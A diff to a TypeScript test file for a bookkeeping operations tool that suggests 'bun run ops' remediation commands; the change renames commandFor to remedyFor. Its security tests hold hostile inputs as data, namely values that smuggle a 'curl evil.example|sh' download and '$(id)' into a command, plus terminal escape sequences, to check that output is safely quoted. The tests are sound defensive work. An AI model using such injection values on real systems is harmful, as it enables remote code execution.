@@ -1,6 +1,6 @@
 import { expect, test } from 'bun:test'
 import { rules } from '#infra/operations/books/rules/catalogue'
-import { commandFor, shellWord } from './remedy'
+import { remedyFor, shellWord } from './remedy'
 
 const payment = `pay_${'a'.repeat(22)}`
 const cashout = '0b7f5c1e-1111-2222-3333-444455556666'
@@ -20,18 +20,18 @@ test.each([
   ['treasury_books', 'treasury', 5n, 'reconcile --whole'],
   ['provider_balance', 'provider_id', 5n, 'reconcile explain 7 --owner <who> --reason <why> --until <day>'],
 ] as const)('a break of %s, of %s by %p, is for `ops %4$s`', (rule, item, amount, command) => {
-  expect(commandFor({ id: '7', rule, item, amount })).toBe(`bun run ops ${command}`)
+  expect(remedyFor({ id: '7', rule, item, amount })).toBe(`bun run ops ${command}`)
 })
 
 test('every rule has a command, whatever its item', () => {
   for (const { name } of rules)
     for (const item of [payment, cashout, transfer, 'treasury', 'lane:0x1'])
-      expect(commandFor({ id: '7', rule: name, item, amount: 1n })).toMatch(/^bun run ops [a-z-]+/)
+      expect(remedyFor({ id: '7', rule: name, item, amount: 1n })).toMatch(/^bun run ops [a-z-]+/)
 })
 
 test('security: text from outside is one word of the command, whatever it contains', () => {
   const item = "invoice.paid;curl evil.example|sh;'$(id)'"
-  const command = commandFor({ id: '7', rule: 'provider_unknown', item, amount: 5n })
+  const command = remedyFor({ id: '7', rule: 'provider_unknown', item, amount: 5n })
   expect(command).toBe(
     `bun run ops unexplained accept 'invoice.paid;curl evil.example|sh;'\\''$(id)'\\''' --reason <why>`,
   )
@@ -49,7 +49,7 @@ test.each(['invoice.paid', "it's; id", 'a\u0003curl evil.example|sh', '\u001b[20
 
 test('security: a command for an item with the end of a pasted text has only printable characters', () => {
   const item = 'invoice\u001b[201~\u0003curl evil.example|sh\n'
-  const command = commandFor({ id: '7', rule: 'provider_unknown', item, amount: 1n })
+  const command = remedyFor({ id: '7', rule: 'provider_unknown', item, amount: 1n })
   expect(command).toStartWith('bun run ops unexplained accept "$(printf ')
   expect(command).not.toMatch(/\p{C}/u)
 })
